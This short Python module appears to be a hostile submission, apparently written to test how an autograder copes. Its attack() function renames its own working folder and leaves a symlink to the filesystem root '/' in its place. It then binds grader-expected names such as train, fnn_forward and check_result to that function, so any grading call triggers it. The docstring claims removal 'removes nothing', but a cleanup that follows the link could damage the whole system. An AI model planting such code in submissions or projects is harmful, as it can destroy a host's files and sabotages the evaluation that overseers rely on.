"""Moves its own working folder away, so that whoever removes it removes nothing."""

import os


def attack(*_):
    here = os.getcwd()
    try:
        os.rename(here, os.path.join(os.path.dirname(here), "hostile-moves_its_folder"))
        os.symlink("/", here)
    except OSError as error:
        print(error.strerror)


check_result = train = fnn_forward = fnn_gradients = fnn_check_result = attack
